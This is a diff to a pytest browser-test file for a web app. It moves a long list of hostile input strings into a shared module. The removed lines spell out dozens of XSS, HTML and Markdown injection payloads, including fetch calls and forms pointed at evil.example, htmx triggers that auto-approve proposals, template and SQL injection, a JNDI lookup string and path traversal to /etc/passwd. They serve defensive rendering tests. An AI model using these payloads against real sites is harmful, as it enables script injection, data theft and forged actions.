@@ -12,6 +12,7 @@ from typing import TYPE_CHECKING, Any
 import pytest
 from support.model_server import Say, Step
 from support.pages.browser import There, open_pages
+from support.pages.hostile_texts import LONG_LINE, TEXTS
 from support.runtime import hand_over
 from support.stdio import logged
 
@@ -20,91 +21,6 @@ from ava_server.web.context import environment, foreign
 
 if TYPE_CHECKING:
     from playwright.sync_api import Browser
-
-# -- the texts ---------------------------------------------------------------------------------------------------------
-
-RUN = "window.hacked=1;alert(1);fetch('//evil.example/x')"
-"""What each of them would do: it sets a flag, opens a dialog, and asks another host."""
-
-TEXTS: tuple[str, ...] = (
-    f"<script>{RUN}</script>",
-    f"</script><script>{RUN}</script>",
-    f"<SCRIPT SRC=//evil.example/a.js></SCRIPT><script\n>{RUN}</script\n>",
-    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
-    f'"><script>{RUN}</script>',
-    f"'><script>{RUN}</script>",
-    f"--><script>{RUN}</script><!--",
-    f"]]><script>{RUN}</script>",
-    f"</textarea><script>{RUN}</script>",
-    f"</title><script>{RUN}</script>",
-    f"</pre></code></template></noscript><script>{RUN}</script>",
-    f'<img src=x onerror="{RUN}">',
-    f"<img src=x onerror={RUN}//",
-    '<img src="https://evil.example/pixel.gif" width=1 height=1>',
-    f"<img/src='x'/onerror='{RUN}'>",
-    "<img srcset='https://evil.example/a 1x'><picture><source srcset='https://evil.example/b'></picture>",
-    f'<svg onload="{RUN}">',
-    f"<svg><script>{RUN}</script></svg>",
-    "<svg><use href='https://evil.example/x.svg#a'/><image href='https://evil.example/y.png'/></svg>",
-    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
-    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
-    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
-    "<iframe src='https://evil.example/'></iframe>",
-    f"<iframe src=\"javascript:{RUN}\"></iframe>",
-    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/y'>",
-    f"<body onload=\"{RUN}\"><frameset onload=\"{RUN}\">",
-    f'<details open ontoggle="{RUN}">x</details>',
-    f'<input autofocus onfocus="{RUN}"><select autofocus onfocus="{RUN}">',
-    f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}">',
-    f'<marquee onstart="{RUN}">x</marquee>',
-    "<meta http-equiv='refresh' content='0; url=https://evil.example/'>",
-    "<meta http-equiv='Set-Cookie' content='ava=1'>",
-    "<base href='https://evil.example/'>",
-    "<link rel=stylesheet href='https://evil.example/x.css'><link rel=prefetch href='https://evil.example/p'>",
-    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/b)}</style>",
-    "<p style='background:url(https://evil.example/c);position:fixed;inset:0'>covered</p>",
-    "</style><style>*{display:none!important}</style>",
-    "expression(alert(1)); background-image: url(javascript:alert(1)); } body { display: none",
-    "<form action='https://evil.example/'><input name=pin><button>Approve</button></form>",
-    "</form><form method=post action=/proposals><input name=decision value=approve>",
-    "<button formaction='https://evil.example/' name=decision value=approve>Approve</button>",
-    f"<a href=\"javascript:{RUN}\">Click</a>",
-    f"<a href='data:text/html,<script>{RUN}</script>'>Click</a>",
-    f"[click](javascript:{RUN.replace(' ', '')})",
-    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [v](vbscript:msgbox(1))",
-    "![pixel](https://evil.example/pixel.png) ![x](//evil.example/y.png 'title')",
-    f"[a]: javascript:{RUN}\n[a] <https://evil.example/> <javascript:alert(1)>",
-    f"# Heading\n\n<div onmouseover=\"{RUN}\">**bold**</div>\n\n```html\n<script>{RUN}</script>\n```",
-    f"|a|b|\n|-|-|\n|<img src=x onerror={RUN}>|![x](https://evil.example/t.png)|",
-    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}{% endraw %} {{config}} {{ ''.__class__.__mro__ }} [[7*7]]",
-    "{% extends 'error.html' %}{{ visitor.csrf }}{# comment #}",
-    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;script&amp;gt;",
-    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e %3Cscript%3Ealert(1)%3C/script%3E",
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "<div hx-get='https://evil.example/' hx-trigger='load'>x</div>",
-    "<div hx-post='/proposals' hx-trigger='load, every 1s' hx-vals='{\"decision\":\"approve\"}'>x</div>",
-    f'<div hx-on:load="{RUN}" hx-on::after-request="{RUN}" data-hx-get="/sign-out">x</div>',
-    "<body data-stream='https://evil.example/stream'><div id=live hx-swap-oob=true>replaced</div>",
-    "<time datetime='<img src=x onerror=alert(1)>'>now</time><p id=connection>down</p>",
-    "<template shadowrootmode=open><script>window.hacked=1</script></template>",
-    "\u202etxt.exe\u202c \u2066isolated\u2069 \u200f\u202bright to left\u202c approve \u202eevorppa",
-    "zero\u200bwidth\u200c joined\u200d\u2060\ufeff soft\u00adhyphen \U000e0041\U000e0042 tags",
-    "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\\x9b31m",
-    "null\x00byte \x01\x02\x08\x0b\x0c\x7f\x85 \ufffe\uffff\u2028line\u2029paragraph",
-    "<" * 3_000 + "script" + ">" * 3_000,
-    "<div>" * 3_000 + "[" * 3_000 + "> " * 1_500,
-    "a" * 20_000,
-    "*" * 5_000 + "_" * 5_000 + "`" * 5_000,
-    "ZA\u0335\u0321\u0322\u0327LGO " + "e" + "\u0301" * 2_000,
-    "𒐫﷽" * 500 + " \U0001f468\u200d\U0001f469\u200d\U0001f467" * 200,
-    "constructor __proto__ toString ../../../etc/passwd file:///etc/passwd \\\\evil\\share C:\\x",
-    "'; DROP TABLE events; -- \" OR \"\"=\" \\'; ${jndi:ldap://evil.example/a}",
-)  # fmt: skip
-LONG_LINE = "<b>" + "x" * 1_000_000 + f"<script>{RUN}</script>"
-"""A megabyte without a space."""
-
-
-# -- the tests ---------------------------------------------------------------------------------------------------------
 
 _NUMBER = re.compile(r"TEXT (\d+)\b")
 
